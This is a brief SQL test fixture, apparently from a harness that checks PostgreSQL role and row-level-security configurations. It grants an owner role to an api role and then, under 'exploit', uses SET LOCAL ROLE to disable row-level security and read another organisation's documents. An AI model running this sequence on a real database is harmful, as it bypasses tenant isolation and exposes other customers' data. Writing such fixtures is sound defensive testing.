-- Membership without inheritance is still SET ROLE.
-- object: role:{api}
-- base: orm
--- setup
RESET ROLE; ALTER ROLE {api} NOINHERIT;
--- leak
RESET ROLE; GRANT {owner} TO {api};
--- exploit
SET LOCAL ROLE {owner}; ALTER TABLE "Document" DISABLE ROW LEVEL SECURITY; SELECT FROM "Document" WHERE "organizationId" = '{B}';
